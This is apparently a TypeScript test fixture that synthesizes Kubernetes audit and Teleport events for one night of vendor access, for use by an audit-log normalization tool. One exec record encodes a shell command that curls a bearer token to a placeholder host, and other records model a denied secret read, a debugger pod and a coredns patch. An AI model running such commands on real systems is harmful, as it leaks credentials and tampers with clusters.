import { createNormalizers } from "../../src/normalize/normalizers.ts";
import type { NormalizedEvent } from "../../src/model/normalization.ts";
import type { Source } from "../../src/model/record.ts";
import { formatTime, parseTime, type Micros } from "../../src/model/time.ts";

/** The records of a made-up night, as a Kubernetes API server and a Teleport would have written them. */
export const normalizers: ReturnType<typeof createNormalizers> = createNormalizers("acme");

export const NIGHT: Micros = parseTime("2026-10-03T01:00:00.000000Z") ?? 0;

const KUBE: Source = { name: "prod-audit", dialect: "kubernetes-audit", cluster: "prod" };
const TELEPORT: Source = { name: "teleport", dialect: "teleport", cluster: null };

export const NIGHT_SOURCES: readonly Source[] = [
  KUBE,
  TELEPORT,
  { name: "recordings", dialect: "teleport-recording", cluster: null },
];

const DANA = "dana@vendor.example";
const AGENT = "system:serviceaccount:teleport:agent";
const GRANT = "0b6f2a44-7d0f-4a55-9b64-5f3d1a1c0e01";
const SESSION = "7f3c1f0e-3a53-4c39-8a4e-6a1f5f0d2c11";

/** Minutes of the night. */
const minute = (minutes: number): Micros => NIGHT + minutes * 60_000_000;

/** Asked for at 0, open from 2 to 62 minutes. */
export function night(): readonly NormalizedEvent[] {
  const cluster_name = "vendor.teleport.example";
  const request = { cluster_name, id: GRANT, user: DANA, roles: ["operator"] };
  const session = {
    cluster_name,
    sid: SESSION,
    user: DANA,
    login: "acc",
    access_requests: [GRANT],
    server_id: "6f5f8a52",
    server_hostname: "gpu-7",
    proto: "ssh",
  };
  const expires = formatTime(minute(62));
  return [
    teleport("access_request.create", 0, {
      ...request,
      state: "PENDING",
      reason: "CS-4711: node 7 drops off the fabric",
      expires,
    }),
    teleport("access_request.review", 2, {
      cluster_name,
      id: GRANT,
      state: "APPROVED",
      reviewer: "anna@acme.example",
      proposed_state: "APPROVED",
      expires,
    }),
    teleport("session.start", 5, session),
    teleport("session.end", 9, { ...session, session_start: formatTime(minute(5)) }),
    teleport("session.upload", 10, { cluster_name, sid: SESSION }),
    ...kubernetes(12, { verb: "list", resource: "pods", namespace: "ml-train" }),
    ...kubernetes(14, {
      verb: "create",
      resource: "pods",
      subresource: "exec",
      namespace: "ml-train",
      name: "trainer-0",
      query:
        "?command=sh&command=-c&command=nvidia-smi+-q+%26%26+curl+-H+%22Authorization%3A+Bearer+abcdefgh12345%22+http%3A%2F%2Fx&container=main",
      stages: ["RequestReceived", "ResponseStarted", "ResponseComplete"],
      code: 101,
    }),
    ...kubernetes(20, {
      verb: "get",
      resource: "secrets",
      namespace: "payments",
      name: "db",
      code: 403,
    }),
    ...kubernetes(25, {
      verb: "create",
      resource: "pods",
      namespace: "default",
      name: "node-debugger-gpu-7",
      code: 201,
      level: "RequestResponse",
    }),
    ...kubernetes(30, {
      verb: "patch",
      resource: "configmaps",
      namespace: "kube-system",
      name: "coredns",
    }),
    ...kubernetes(70, { verb: "list", resource: "nodes" }),
  ];
}

/** Found in the middle of it. */
export function nightGap(): NormalizedEvent {
  const [{ event } = { event: null }] = night();
  if (event === null) throw new Error("The night has no records");
  const observedAt = minute(40);
  const gap = {
    source: "prod-audit",
    from: "8:17:100",
    to: "8:17:164",
    sizeBytes: 64,
    count: null,
    cause: 'the file "audit.log" was rotated away',
  };
  const origin = { kind: "chaperone", name: "prod-audit", cluster: "prod", position: gap.from };
  return {
    facts: null,
    event: {
      ...event,
      id: "gap-of-the-night",
      labels: { stream: "logs-audit-kube-api" },
      occurredAt: observedAt,
      observedAt,
      origin,
      original: null,
      detail: { gap },
    },
  };
}

/** The administrator deletes the request at 22 minutes; its record comes hours later. */
export function lateDeletion(): NormalizedEvent {
  return teleport("access_request.delete", 22, {
    cluster_name: "vendor.teleport.example",
    id: GRANT,
    user: "anna@acme.example",
  });
}

function teleport(event: string, minutes: number, fields: object): NormalizedEvent {
  const time = formatTime(minute(minutes));
  const uid = `00000000-0000-4000-8000-${String(minutes).padStart(12, "0")}`;
  return normalized(TELEPORT, { event, code: "T", uid, time, ei: 0, ...fields }, minute(minutes));
}

interface Call {
  readonly verb: string;
  readonly resource: string;
  readonly subresource?: string;
  readonly namespace?: string;
  readonly name?: string;
  readonly query?: string;
  readonly code?: number;
  readonly level?: string;
  readonly stages?: readonly string[];
}

function kubernetes(minutes: number, call: Call): readonly NormalizedEvent[] {
  const { verb, resource, subresource, namespace, name, query = "", code = 200 } = call;
  const at = minute(minutes);
  const path = [
    namespace === undefined ? "" : `/namespaces/${namespace}`,
    `/${resource}`,
    name === undefined || (verb === "create" && subresource === undefined) ? "" : `/${name}`,
    subresource === undefined ? "" : `/${subresource}`,
  ].join("");
  return (call.stages ?? ["ResponseComplete"]).map((stage, index) =>
    normalized(
      KUBE,
      {
        kind: "Event",
        apiVersion: "audit.k8s.io/v1",
        level: call.level ?? "Metadata",
        auditID: `a0000000-0000-4000-8000-${String(minutes).padStart(12, "0")}`,
        stage,
        requestURI: `/api/v1${path}${query}`,
        verb,
        user: { username: AGENT, groups: ["system:serviceaccounts"] },
        ...(stage === "RequestReceived"
          ? {}
          : { impersonatedUser: { username: DANA, groups: ["v:operators"] } }),
        sourceIPs: ["10.0.0.7"],
        userAgent: "kubectl/v1.34.0",
        objectRef: { resource, subresource, namespace, name, apiVersion: "v1" },
        ...(stage === "RequestReceived" ? {} : { responseStatus: { code } }),
        ...(call.level === undefined
          ? {}
          : {
              requestObject: {
                kind: "Pod",
                apiVersion: "v1",
                metadata: { name, namespace },
                spec: { containers: [{ name: "debugger", image: "busybox" }] },
              },
            }),
        requestReceivedTimestamp: formatTime(at),
        stageTimestamp: formatTime(at + (index + 1) * 2_000),
        annotations: {
          "authorization.k8s.io/decision": code === 403 ? "forbid" : "allow",
        },
      },
      at,
    ),
  );
}

function normalized(source: Source, record: object, observedAt: Micros): NormalizedEvent {
  const bytes = Buffer.from(JSON.stringify(record));
  const read = normalizers[source.dialect].normalize(
    { bytes, position: "0", observedAt, truncatedFromBytes: null },
    source,
  );
  if (read.status !== "normalized") throw new Error(`Cannot read ${JSON.stringify(record)}`);
  return { event: read.event, facts: read.facts };
}
